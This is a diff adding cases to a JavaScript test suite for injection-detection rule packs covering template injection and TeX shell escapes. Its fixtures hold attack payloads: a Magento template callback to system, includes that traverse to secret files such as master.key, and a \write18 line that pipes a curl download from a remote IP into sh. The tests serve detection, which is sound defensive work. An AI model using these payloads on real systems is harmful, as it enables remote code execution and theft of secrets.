@@ -64,6 +64,9 @@ describe('SSTI pack', () => {
     '%{(7*7)}',
     // Magento's template filter calling back into PHP (CVE-2022-24086)
     '{{var this.getTemplateFilter().addAfterFilterCallback(system).filter(id)}}',
+    // A snippet loaded up parent steps: a file outside the templates (Liquid, Twig)
+    "{% render '../../config/master.key' %}",
+    "{{ include('../../app/config/parameters.yml') }}",
   ])('alerts at level 1 on %s', (payload) => {
     expect(score(templateInjectionPack, payload)).toBeGreaterThanOrEqual(5);
   });
@@ -91,6 +94,9 @@ describe('SSTI pack', () => {
     '{% set total = cart.total %}{% raw %}{{ x }}{% endraw %}',
     '<#if order.total > 100>Free shipping</#if><#list order.items as item>${item.name}</#list>',
     '<#assign greeting = "Hello">${greeting}',
+    // Themes load snippets by name
+    "{% render 'product-card', product: product %}",
+    "{{ source('partials/footer.html') }}",
   ])('leaves %s alone', (value) => {
     expect(score(templateInjectionPack, value)).toBeLessThan(5);
   });
@@ -649,6 +655,12 @@ describe('Python code that imports a process module and calls it, where a server
     expect(idsOf(commandInjectionPack, "json = __import__('json').dumps(x)")).not.toContain(400129);
     // The blind probe of the same injection
     expect(idsOf(commandInjectionPack, "[1,2,__import__('time').sleep(12)]")).toContain(400129);
+  });
+
+  it("reads TeX's shell stream written to (\\write18{...}), not the primitive named in prose", () => {
+    expect(idsOf(commandInjectionPack, '\\immediate\\write18{id > /tmp/out.txt}')).toContain(400131);
+    expect(idsOf(commandInjectionPack, '\\write18{curl http://203.0.113.8/x|sh}')).toContain(400131);
+    expect(idsOf(commandInjectionPack, 'Is \\write18 enabled by default in TeX Live?')).not.toContain(400131);
   });
 
   it('reads a climb from an object to every loaded class (a sandbox escape to Popen), not a class listing its own subclasses', () => {
